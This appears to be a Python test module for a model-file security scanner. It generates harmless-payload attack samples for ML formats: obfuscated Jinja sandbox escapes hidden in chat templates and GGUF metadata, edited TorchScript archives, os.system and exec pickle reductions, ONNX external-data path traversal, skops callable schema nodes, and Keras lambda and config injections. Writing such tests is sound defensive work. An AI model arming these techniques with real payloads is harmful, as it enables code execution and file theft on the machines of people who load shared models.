"""Seeded attack generators for the non-pickle formats, and benign files made by the real libraries.

Each generator returns samples ``(name, writer, loader)`` for ``harness.run_loaders``: ``writer(folder)`` writes
the sample's files into a folder and returns the file the loader opens. Payloads are harmless: they create
``PAYLOAD_RAN`` in the working directory (the sample's folder), or, for ONNX, read ``../SECRET``. Everything here
runs in the test process only to BUILD files (torch.jit.script of our own module, pickle.dumps of our own class,
dcp.save, onnx.save, skops.io.dump, keras save); loading is the harness's subprocess's job.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import random
import tempfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.conftest import chdir

Writer = Callable[[Path], str]
Sample = tuple[str, Writer, str]

# --- Jinja chat templates ------------------------------------------------------------------------------------
# A function object whose __globals__ hold __builtins__: the first step of every escape.
ENTRIES = {
    "lipsum": ("lipsum", []),
    "cycler": ("cycler", ["__init__"]),
    "joiner": ("joiner", ["__init__"]),
    "namespace": ("namespace", ["__init__"]),
    "self": ("self", ["__init__"]),
    "raise_exception": ("raise_exception", []),
    "ns-instance": ("namespace()", ["__init__"]),
}
SPELLINGS = ("dot", "getitem", "attr", "concat", "attr-concat", "set-var", "set-fragments", "reverse", "join",
             "format", "dict-key", "macro", "lower", "replace", "mul", "ns-attr", "set-block", "for-dict", "chars",
             "format-var", "underscore-var", "map-attr", "block-fragments", "mod-c", "str-format-c", "chars-replace",
             "items-text")


def _spell(name: str, how: str, k: int, pre: list[str]) -> str:
    """An accessor of attribute ``name`` (``.x``, ``['x']``, ``|attr(x)``...); ``pre`` collects statements that
    must come before the expression. A result starting with ``|map`` wraps the object in a list first."""
    half = len(name) // 2
    inner = name.strip("_")
    if how == "chars":  # underscores cut out of an object's string form: '<generator object select_or_reject ...'
        pre.append(f"{{% set u{k} = (()|select|string)[24] %}}")
        return f"[u{k} ~ u{k} ~ '{inner}' ~ u{k} ~ u{k}]"
    if how == "mod-c":
        return f"['%c%c{inner}%c%c' % (95, 95, 95, 95)]"
    if how == "str-format-c":
        return f"['{{0:c}}{{0:c}}{inner}{{0:c}}{{0:c}}'.format(95)]"
    if how == "chars-replace":
        pre.append(f"{{% set u{k} = ()|select|string|replace('<generator object select', '')|first %}}")
        return f"[u{k} ~ u{k} ~ '{inner}' ~ u{k} ~ u{k}]"
    if how == "items-text":  # '<generator object do_items at ...>' (needs a message)
        pre.append(f"{{% set u{k} = (messages[0]|items|string)[20] %}}")
        return f"[u{k} ~ u{k} ~ '{inner}' ~ u{k} ~ u{k}]"
    if how == "format-var":
        pre.append(f"{{% set n{k} = 95 %}}")
        return f"['%c%c{inner}%c%c'|format(n{k}, n{k}, n{k}, n{k})]"
    if how == "underscore-var":
        pre.append(f"{{% set u{k} = '_' %}}")
        return f"[u{k} ~ u{k} ~ '{inner}' ~ u{k} ~ u{k}]"
    if how == "map-attr":
        return f"|map('attr', '{name}')"
    if how == "block-fragments":
        pre.append(f"{{% set b{k}a %}}{name[:half]}{{% endset %}}{{% set b{k}b %}}{name[half:]}{{% endset %}}")
        return f"[b{k}a ~ b{k}b]"
    a, b = name[:half], name[half:]
    v = f"v{k}"
    if how == "dot":
        return f".{name}"
    if how == "getitem":
        return f"['{name}']"
    if how == "attr":
        return f"|attr('{name}')"
    if how == "concat":
        return f"['{a}' ~ '{b}']"
    if how == "attr-concat":
        return f"|attr('{a}' ~ '{b}')"
    if how == "set-var":
        pre.append(f"{{% set {v} = '{name}' %}}")
        return f"[{v}]"
    if how == "set-fragments":
        pre.append(f"{{% set {v}a = '{a}' %}}{{% set {v}b = '{b}' %}}")
        return f"[{v}a ~ {v}b]"
    if how == "reverse":
        return f"['{name[::-1]}'|reverse]"
    if how == "join":
        return f"[['{a}', '{b}']|join]"
    if how == "format":
        inner = name.strip("_")
        return f"['%c%c{inner}%c%c'|format(95, 95, 95, 95)]"
    if how == "dict-key":
        pre.append(f"{{% set {v} = dict({name}=1)|first %}}")
        return f"[{v}]"
    if how == "macro":
        pre.append(f"{{% macro m{k}() %}}{name}{{% endmacro %}}")
        return f"[m{k}()]"
    if how == "lower":
        return f"['{name.upper()}'|lower]"
    if how == "replace":
        return f"['{a}Q{b}'|replace('Q', '')]"
    if how == "mul":
        inner = name.strip("_")
        return f"['_' * 2 ~ '{inner}' ~ '_' * 2]"
    if how == "ns-attr":
        pre.append(f"{{% set {v} = namespace(k='{name}') %}}")
        return f"[{v}.k]"
    if how == "set-block":
        pre.append(f"{{% set {v} %}}{name}{{% endset %}}")
        return f"[{v}]"
    if how == "for-dict":
        pre.append(f"{{% for {v} in dict({name}=1) %}}{{% set ns{k}.k = {v} %}}{{% endfor %}}")
        pre.insert(0, f"{{% set ns{k} = namespace(k='') %}}")
        return f"[ns{k}.k]"
    raise ValueError(how)


def jinja_payload(entry: str, spellings: list[str]) -> str:
    """A template whose render creates PAYLOAD_RAN: entry → __globals__ → __builtins__ → open()."""
    base, steps = ENTRIES[entry]
    pre: list[str] = []
    expr = base
    names = [*steps, "__globals__", "__builtins__"]
    for k, name in enumerate(names):
        expr = _apply(expr, _spell(name, spellings[k % len(spellings)], k, pre))
    return "".join(pre) + f"{{{{ {expr}['open']('PAYLOAD_RAN', 'w').close() }}}}"


def _apply(expr: str, accessor: str) -> str:
    return f"([{expr}]{accessor}|first)" if accessor.startswith("|map") else f"({expr}){accessor}"


def subclasses_payload(how: str) -> str:
    """The classic walk from a literal (no global named): object's subclasses → warnings.catch_warnings → its
    module's builtins → open(). Every dunder name is spelled ``how``; the class is found by its text."""
    pre: list[str] = []
    expr = "'x'"  # str and object have no __class_getitem__: a subscript falls back to the attribute
    for k, step in enumerate(("__class__", "__base__", "__subclasses__")):
        expr = _apply(expr, _spell(step, how, k, pre))
    item = "c"
    for k, step in enumerate(("__init__", "__globals__"), start=5):
        item = _apply(item, _spell(step, how, k, pre))
    # __builtins__ is a dict key: the attr filter never falls back to items, so those spellings subscript here
    last = {"attr": "getitem", "attr-concat": "concat", "map-attr": "getitem"}.get(how, how)
    item = _apply(item, _spell("__builtins__", last, 7, pre))
    return "".join(pre) + (
        f"{{% for c in {expr}() %}}{{% if 'catch_warnings' in c|string %}}"
        f"{{{{ ({item})['open']('PAYLOAD_RAN', 'w').close() }}}}"
        "{% endif %}{% endfor %}")


CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
          "'<|im_end|>\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
WRAPS = ("plain", "whitespace", "comment", "in-loop", "in-if", "in-macro", "raw-neighbour", "after-chatml")


def wrap(payload: str, how: str) -> str:
    """The payload placed inside an ordinary chat template, as an attacker hides it."""
    if how == "plain":
        return payload
    if how == "whitespace":
        return payload.replace("{{ ", "{{- ").replace(" }}", " -}}").replace("{% ", "{%- ").replace(" %}", " -%}")
    if how == "comment":
        return "{# system prompt #}" + payload.replace("}}{", "}}{# x #}{") + "{#- end -#}"
    if how == "in-loop":
        return "{% for message in messages %}" + payload + "{{ message['content'] }}{% endfor %}"
    if how == "in-if":
        return CHATML + "{% if add_generation_prompt %}" + payload + "{% endif %}"
    if how == "in-macro":
        return "{% macro render(m) %}" + payload + "{{ m['content'] }}{% endmacro %}" + \
            "{% for message in messages %}{{ render(message) }}{% endfor %}"
    if how == "raw-neighbour":
        return "{% raw %}{{ not code }}{% endraw %}" + payload
    if how == "after-chatml":
        return CHATML + payload
    raise ValueError(how)


PLACES = ("chat_template.jinja", "tokenizer_config.json", "tokenizer_config-list", "chat_template.json",
          "gguf", "gguf-named", "config.yaml", "tokenizer_config-dict")


def place_template(template: str, place: str) -> Writer:
    def write(folder: Path) -> str:
        if place == "chat_template.jinja":
            (folder / place).write_text(template)
            return place
        if place == "tokenizer_config.json":
            (folder / place).write_text(json.dumps({"bos_token": "<s>", "chat_template": template}))
            return place
        if place == "tokenizer_config-list":
            value = [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": template}]
            (folder / "tokenizer_config.json").write_text(json.dumps({"chat_template": value}))
            return "tokenizer_config.json"
        if place == "tokenizer_config-dict":  # transformers keeps a dict of named templates as it is
            named = {"default": CHATML, "rag": template}
            (folder / "tokenizer_config.json").write_text(json.dumps({"chat_template": named}))
            return "tokenizer_config.json"
        if place == "chat_template.json":
            (folder / place).write_text(json.dumps({"chat_template": template}))
            return place
        if place in ("gguf", "gguf-named"):
            key = "tokenizer.chat_template" if place == "gguf" else "tokenizer.chat_template.tool_use"
            write_gguf(folder / "model.gguf", {key: template})
            return "model.gguf"
        if place == "config.yaml":
            import yaml

            (folder / place).write_text(yaml.safe_dump({"model": "x", "chat_template": template}))
            return place
        raise ValueError(place)

    return write


def write_gguf(path: Path, strings: dict[str, str]) -> None:
    """A GGUF file written by gguf-py (llama.cpp's own writer), one tiny tensor and the given metadata."""
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), "llama")
    for key, value in strings.items():
        writer.add_string(key, value)
    writer.add_tensor("w", np.zeros(4, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def jinja_samples(seed: int, count: int) -> list[Sample]:
    rng = random.Random(seed)  # noqa: S311 - a reproducible test generator, not secrets
    out: list[Sample] = []
    for i in range(count):
        place, how = rng.choice(PLACES), rng.choice(WRAPS)
        if rng.random() < 0.15:
            spell = rng.choice(SPELLINGS)
            label, payload = f"subclasses-{spell}", subclasses_payload(spell)
        else:
            entry = rng.choice(sorted(ENTRIES))
            spellings = [rng.choice(SPELLINGS) for _ in range(3)]
            label, payload = f"{entry}-{'+'.join(spellings)}", jinja_payload(entry, spellings)
        out.append((f"jinja{i}-{label}-{how}-{place}", place_template(wrap(payload, how), place), "jinja"))
    return out


def jinja_spelling_samples() -> list[Sample]:
    """Every spelling on the walk that names no global (a literal's class), each in a different place."""
    return [(f"jinja-walk-{how}-{PLACES[i % len(PLACES)]}",
             place_template(wrap(subclasses_payload(how), WRAPS[i % len(WRAPS)]), PLACES[i % len(PLACES)]), "jinja")
            for i, how in enumerate(SPELLINGS)]


def benign_templates() -> list[tuple[str, str]]:
    folder = Path(__file__).resolve().parent.parent / "data" / "chat_templates"
    return [(p.name, p.read_text()) for p in sorted(folder.glob("*.jinja"))]


# --- TorchScript --------------------------------------------------------------------------------------------
_TS_MODULE = '''
import torch
from typing import Tuple


class Net(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.lin = torch.nn.Linear(2, 2)
        self.x = 1

    @torch.jit.export
    def __getstate__(self) -> Tuple[int, bool]:
        return (self.x, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[int, bool]) -> None:
        self.x = state[0]
        self.training = state[1]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.lin(x)) + self.x
'''


def scripted_archive(folder: Path) -> bytes:
    """A real torch.jit.save archive of a module with __setstate__ (TorchScript compiles from a source file)."""
    import importlib.util

    import torch

    (folder / "tsnet_oracle.py").write_text(_TS_MODULE)
    spec = importlib.util.spec_from_file_location("tsnet_oracle", folder / "tsnet_oracle.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)  # our own module, not a scanned file
    path = folder / "net.pt"
    torch.jit.save(torch.jit.script(module.Net()), str(path))
    return path.read_bytes()


# Statements (TorchScript as torch.jit.save writes it, edited by hand) that create PAYLOAD_RAN when run.
TS_CALLS = {
    "from_file": '_9 = torch.from_file("PAYLOAD_RAN", True, 4)\n    self.x = torch.numel(_9)',
    "from_file-concat": '_9 = torch.from_file(torch.add("PAYLOAD", "_RAN"), True, 4)\n    self.x = torch.numel(_9)',
    "ops-aten-from_file": '_9 = ops.aten.from_file("PAYLOAD_RAN", True, 4)\n    self.x = torch.numel(_9)',
    "torch-ops-aten-from_file": '_9 = torch.ops.aten.from_file("PAYLOAD_RAN", True, 4)\n'
                                '    self.x = torch.numel(_9)',
    "save": 'torch.save(self.x, "PAYLOAD_RAN")',
    "ops-aten-save": 'ops.aten.save(self.x, "PAYLOAD_RAN")',
    "spaced": '_9 = torch . from_file ("PAYLOAD_RAN", True, 4)\n    self.x = torch.numel(_9)',
    "helper": "self.x = self.helper()",
}
TS_HELPER = '  def helper(self: {cls}) -> int:\n    _9 = torch.from_file("PAYLOAD_RAN", True, 4)\n' \
            "    return torch.numel(_9)\n"


def torchscript_samples(base: bytes) -> list[Sample]:
    out: list[Sample] = []
    for label, call in TS_CALLS.items():
        out.append((f"ts-{label}", _ts_writer(base, call, helper=label == "helper"), "torchscript"))
    for member in ("constants.pkl", "data.pkl"):  # torch.jit.load unpickles both (its own C++ unpickler)
        for how in TOUCHES:
            out.append((f"ts-{member}-{how}", _ts_pickle_writer(base, member, how), "torchscript"))
    return out


def _ts_pickle_writer(base: bytes, member: str, how: str) -> Writer:
    def write(folder: Path) -> str:
        src = zipfile.ZipFile(io.BytesIO(base))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            for info in src.infolist():
                data = src.read(info)
                if info.filename.endswith("/" + member):
                    data = pickle.dumps(Touch(how), protocol=2)
                z.writestr(info, data)
        (folder / "model.pt").write_bytes(out.getvalue())
        return "model.pt"

    return write


def _ts_writer(base: bytes, call: str, *, helper: bool) -> Writer:
    def write(folder: Path) -> str:
        (folder / "model.pt").write_bytes(edit_setstate(base, call, helper=helper))
        return "model.pt"

    return write


def edit_setstate(archive: bytes, statement: str, *, helper: bool = False) -> bytes:
    """A copy of a TorchScript archive whose __setstate__ ends with ``statement`` (a hand edit of code/)."""
    src = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    edited = False
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            data = src.read(info)
            text = data.decode("latin-1")
            head, sep, tail = text.partition("    self.training = (state)[1]\n")
            if "/code/" in info.filename and info.filename.endswith(".py") and sep:
                text = head + sep + f"    {statement}\n" + tail
                if helper:
                    cls = text.split("def forward(self: ", 1)[1].split(",", 1)[0]
                    text += TS_HELPER.format(cls=cls)
                data = text.encode()
                edited = True
            z.writestr(info, data)
    assert edited, "unexpected TorchScript layout"
    return out.getvalue()


# --- pickled payloads (for distcp items, skops nested pickles) ---------------------------------------------------
class Touch:
    """Pickles as a call that creates PAYLOAD_RAN (the class is never unpickled here)."""

    def __init__(self, how: str) -> None:
        self.how = how

    def __reduce__(self) -> tuple[Any, ...]:
        import builtins
        import subprocess

        if self.how == "os.system":
            return os.system, ("touch PAYLOAD_RAN",)
        if self.how == "exec":
            return builtins.exec, ("open('PAYLOAD_RAN', 'w').close()",)
        if self.how == "open":
            return builtins.open, ("PAYLOAD_RAN", "w")
        if self.how == "subprocess":
            return subprocess.call, (["touch", "PAYLOAD_RAN"],)
        raise ValueError(self.how)


TOUCHES = ("os.system", "exec", "open", "subprocess")


def distcp_samples() -> list[Sample]:
    out: list[Sample] = []
    for how in TOUCHES:
        out.append((f"distcp-item-{how}", _dcp_writer(how, "item"), "distcp"))
        out.append((f"distcp-nested-{how}", _dcp_writer(how, "nested"), "distcp"))
        out.append((f"distcp-metadata-{how}", _dcp_writer(how, "metadata"), "distcp"))
        out.append((f"distcp-renamed-{how}", _dcp_writer(how, "renamed"), "distcp"))
        out.append((f"distcp-renamed-last-{how}", _dcp_writer(how, "renamed-last"), "distcp"))
    return out


def _dcp_writer(how: str, where: str) -> Writer:
    def write(folder: Path) -> str:
        import warnings

        import torch
        from torch.distributed.checkpoint import state_dict_saver

        extra: Any = {"note": "x"}
        if where in ("item", "renamed"):
            extra = Touch(how)
        elif where == "nested":
            extra = {"note": Touch(how)}
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            state = {"weight": torch.zeros(2), "extra": extra, "step": 0}
            if where == "renamed-last":
                state = {"weight": torch.zeros(2), "extra": {"note": "x"}, "step": Touch(how)}
            state_dict_saver.save(state, checkpoint_id=str(folder))
        if where == "metadata":
            (folder / ".metadata").write_bytes(pickle.dumps(Touch(how), protocol=2))
        if where.startswith("renamed"):
            # the reader opens whatever file .metadata names: the storage file under another name (same length,
            # so the pickle's string opcodes stay valid)
            metadata = (folder / ".metadata").read_bytes()
            assert metadata.count(b"__0_0.distcp") == metadata.count(b"distcp")
            (folder / ".metadata").write_bytes(metadata.replace(b"__0_0.distcp", b"model_00.bin"))
            (folder / "__0_0.distcp").rename(folder / "model_00.bin")
        return "."

    return write


def benign_distcp(folder: Path) -> None:
    import warnings

    import torch
    from torch.distributed.checkpoint import state_dict_saver

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        state_dict_saver.save({"weight": torch.ones(3), "extra": {"step": 5, "name": "x"}, "lst": [1, 2]},
                              checkpoint_id=str(folder))


# --- ONNX -------------------------------------------------------------------------------------------------------
ONNX_LOCATIONS = ("../SECRET", "sub/../../SECRET", "absolute", "link", "link-dir", "./../SECRET", "..\\SECRET")


def onnx_samples() -> list[Sample]:
    out: list[Sample] = []
    for where in ("initializer", "constant-node", "subgraph"):
        for location in ONNX_LOCATIONS:
            out.append((f"onnx-{where}-{location}", _onnx_writer(location, where), "onnx"))
            out.append((f"ort-{where}-{location}", _onnx_writer(location, where), "onnxruntime"))
    return out


def _onnx_writer(location: str, where: str) -> Writer:
    def write(folder: Path) -> str:
        from onnx import TensorProto, helper

        from tests.oracle.harness import SECRET

        loc = location
        if location == "absolute":
            loc = str((folder.parent / "SECRET").resolve())
        elif location == "link":  # a symlink inside the folder pointing outside it
            os.symlink(folder.parent / "SECRET", folder / "weights.bin")
            loc = "weights.bin"
        elif location == "link-dir":
            os.symlink(folder.parent, folder / "data")
            loc = "data/SECRET"
        tensor = TensorProto(name="w", data_type=TensorProto.UINT8, dims=[len(SECRET)])
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", loc), ("offset", "0"), ("length", str(len(SECRET)))):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        out_info = helper.make_tensor_value_info("y", TensorProto.UINT8, [len(SECRET)])
        if where == "initializer":
            graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [], [out_info], [tensor])
        elif where == "constant-node":
            graph = helper.make_graph([helper.make_node("Constant", [], ["y"], value=tensor)], "g", [], [out_info])
        else:
            inner = helper.make_graph([helper.make_node("Constant", [], ["z"], value=tensor)], "then", [],
                                      [helper.make_tensor_value_info("z", TensorProto.UINT8, [len(SECRET)])])
            cond = helper.make_tensor("c", TensorProto.BOOL, [], [True])
            node = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
            graph = helper.make_graph([node], "g", [], [out_info], [cond])
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        (folder / "model.onnx").write_bytes(model.SerializeToString())
        return "model.onnx"

    return write


def onnx_inside_writer(folder: Path) -> str:
    """Positive control: the same model reading SECRET's bytes from a file INSIDE its folder (the loaders read it:
    so the harness would see an escape if a loader allowed one)."""
    from tests.oracle.harness import SECRET

    (folder / "SECRETS").write_bytes(SECRET)
    main = _onnx_writer("../SECRET", "initializer")(folder)
    data = (folder / main).read_bytes()
    (folder / main).write_bytes(data.replace(b"../SECRET", b"./SECRETS"))  # same length: the protobuf holds
    return main


def benign_onnx(folder: Path) -> None:
    """A model saved by onnx with its weights as external data beside it (what large exports look like)."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.arange(4096, dtype=np.float32), "w")
    out_info = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4096])
    graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [], [out_info], [weight])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    onnx.save_model(model, str(folder / "model.onnx"), save_as_external_data=True, all_tensors_to_one_file=True,
                    location="model.onnx.data", size_threshold=0)


# --- skops ------------------------------------------------------------------------------------------------------
def skops_samples() -> list[Sample]:
    """skops files whose schema names a callable: skops.io.load runs it when the user trusts what
    get_untrusted_types lists (skops' documented pattern)."""
    out: list[Sample] = []
    for label, node in _skops_nodes().items():
        out.append((f"skops-{label}", _skops_writer(node), "skops"))
        out.append((f"skops-default-{label}", _skops_writer(node), "skops-default"))
        out.append((f"skops-renamed-{label}", _skops_writer(node, "model.bin"), "skops"))
    return out


def _skops_nodes() -> dict[str, dict[str, Any]]:
    """Schema nodes that call something while skops constructs them: ConstructorFromReduceNode calls
    ``module.class(*content)``; an ObjectNode whose class is a callable rebuilds with its ``__setstate__``."""
    def arg(value: Any, ident: int) -> dict[str, Any]:
        return {"__class__": type(value).__name__, "__module__": "builtins", "__loader__": "JsonNode",
                "__id__": ident, "content": json.dumps(value), "is_json": True}

    def reduce_node(module: str, name: str, args: list[dict[str, Any]], loader: str = "ConstructorFromReduceNode",
                    ) -> dict[str, Any]:
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 11,
                "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                            "__id__": 12, "content": args}}

    touch = arg("touch PAYLOAD_RAN", 13)
    return {
        "reduce-os-system": reduce_node("os", "system", [touch]),
        "reduce-posix-system": reduce_node("posix", "system", [touch]),
        "reduce-exec": reduce_node("builtins", "exec", [arg("open('PAYLOAD_RAN', 'w').close()", 13)]),
        "reduce-open": reduce_node("builtins", "open", [arg("PAYLOAD_RAN", 13), arg("w", 14)]),
        "reduce-subprocess": reduce_node("subprocess", "call", [
            {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "__id__": 15,
             "content": [arg("touch", 16), arg("PAYLOAD_RAN", 17)]}]),
        "reduce-nested-in-list": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
                                  "__id__": 20, "content": [arg(1, 21), reduce_node("os", "system", [touch])]},
    }


def _list(items: list[Any]) -> dict[str, Any]:
    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "__id__": 20, "content": items}


def _skops_writer(node: dict[str, Any], name: str = "model.skops") -> Writer:
    def write(folder: Path) -> str:
        import skops  # type: ignore[import-untyped]

        schema = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 1,
                  "content": {"model": node}, "key_types": _list([{
                      "__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "__id__": 2,
                      "content": '"model"', "is_json": True}]),
                  "protocol": 2, "_skops_version": skops.__version__}
        with zipfile.ZipFile(folder / name, "w") as z:
            z.writestr("schema.json", json.dumps(schema))
        return name

    return write


def benign_skops(folder: Path) -> None:
    import skops.io  # type: ignore[import-untyped]
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    model = make_pipeline(StandardScaler(), LogisticRegression()).fit([[0.0, 1.0], [1.0, 0.0]], [0, 1])
    skops.io.dump(model, folder / "model.skops")


# --- Keras ------------------------------------------------------------------------------------------------------
def keras_samples() -> list[Sample]:
    out: list[Sample] = []
    for variant in ("lambda-bytecode", "module-os", "module-builtins-exec", "nested-lambda", "torch-wrapper",
                    "torch-wrapper-raw", "activation-lambda", "unzipped-lambda"):
        for ext in (".keras", ".h5"):
            for loader in ("keras", "keras-unsafe"):
                if ext == ".h5" and variant.startswith(("module", "torch", "activation", "unzipped")):
                    continue
                out.append((f"keras-{variant}{ext}-{loader}", _keras_writer(variant, ext), loader))
    return out


def _keras_writer(variant: str, ext: str) -> Writer:
    def write(folder: Path) -> str:
        with warnings.catch_warnings():  # keras warns that lambdas are unsafe to save, and on first import
            warnings.simplefilter("ignore")
            return _write_keras(folder, variant, ext)

    return write


def _write_keras(folder: Path, variant: str, ext: str) -> str:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras  # type: ignore[import-untyped]

    name = f"model{ext}"
    if variant in ("lambda-bytecode", "nested-lambda", "activation-lambda", "unzipped-lambda"):
        with tempfile.TemporaryDirectory() as scratch, chdir(scratch):
            # building the model traces the lambda once: unarmed, in a scratch folder
            model = _lambda_model(keras, variant)
            if variant == "unzipped-lambda":  # load_model also reads a folder (config.json + weights)
                name = "model_folder"
                keras.saving.save_model(model, folder / name, zipped=False)
            else:
                model.save(folder / name)
        if variant == "activation-lambda":
            _rewrite_keras_config(folder / name, variant)
        return name
    if variant.startswith("torch-wrapper"):
        import torch

        model = keras.Sequential([keras.Input((2,)), keras.layers.TorchModuleWrapper(torch.nn.Linear(2, 1))])
    else:
        model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
    model.save(folder / name)
    _rewrite_keras_config(folder / name, variant)
    return name


# The marker payload of a Keras lambda. Building a model traces its lambdas in this process, so the payload
# acts only where the oracle's driver armed it (a file ORACLE_ARMED in the sample's folder): a sample's
# payload never acts in the test process. A lambda, not a def: keras saves only lambdas as bytecode.
_armed_marker = lambda x: (  # noqa: E731
    open("PAYLOAD_RAN", "w").close()  # type: ignore[func-returns-value]
    if __import__("os").path.exists("ORACLE_ARMED") else None, x)[1]


def _lambda_model(keras: Any, variant: str) -> Any:
    inputs = keras.Input((2,))
    # a lambda (not a named function) is saved as marshalled bytecode, which load_model(safe_mode=False) runs
    if variant == "activation-lambda":  # a lambda as any layer argument is saved as __lambda__ bytecode
        dense = keras.layers.Dense(2, activation=_armed_marker)
        return keras.Model(inputs, dense(inputs))
    layer = keras.layers.Lambda(_armed_marker)
    if variant == "nested-lambda":
        inner = keras.Sequential([keras.Input((2,)), layer])
        return keras.Model(inputs, inner(inputs))
    return keras.Model(inputs, layer(inputs))


def _rewrite_keras_config(path: Path, variant: str) -> None:
    """A config whose layer is any importable callable (keras resolves ``module`` + ``class_name``)."""
    src = zipfile.ZipFile(path)
    members = {info.filename: src.read(info) for info in src.infolist()}
    src.close()
    config = json.loads(members["config.json"])
    layer = config["config"]["layers"][-1]
    if variant == "activation-lambda":
        # keras writes a lambda activation as {"value": [...]} but reads only the __lambda__ form: an attacker
        # writes that form (serialization_lib.deserialize_keras_object func_load()s it)
        dense = next(item for item in config["config"]["layers"] if item["class_name"] == "Dense")
        dense["config"]["activation"] = {"module": None, "class_name": "__lambda__",
                                         "config": dense["config"]["activation"], "registered_name": None}
    elif variant.startswith("torch-wrapper"):
        # TorchModuleWrapper.from_config torch.load()s (weights_only=False) the base64 "module" of its config
        import base64

        payload = pickle.dumps(Touch("os.system"), protocol=2)
        if variant == "torch-wrapper":
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as z:  # what torch.save writes: archive/data.pkl + version
                z.writestr("archive/data.pkl", payload)
                z.writestr("archive/version", "3\n")
            payload = buffer.getvalue()
        layer["config"]["module"] = base64.b64encode(payload).decode("ascii")
    elif variant == "module-os":
        layer.update({"module": "os", "class_name": "system", "registered_name": None,
                      "config": "touch PAYLOAD_RAN"})
    else:
        layer.update({"module": "builtins", "class_name": "exec", "registered_name": None,
                      "config": "open('PAYLOAD_RAN', 'w').close()"})
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)


def benign_keras(folder: Path) -> None:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    with warnings.catch_warnings():  # keras' own deprecations (numpy 2's copy keyword, legacy .h5)
        warnings.simplefilter("ignore")
        model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation="relu"),
                                  keras.layers.Dropout(0.1), keras.layers.Dense(1)])
        model.save(folder / "model.keras")
        model.save(folder / "model.h5")
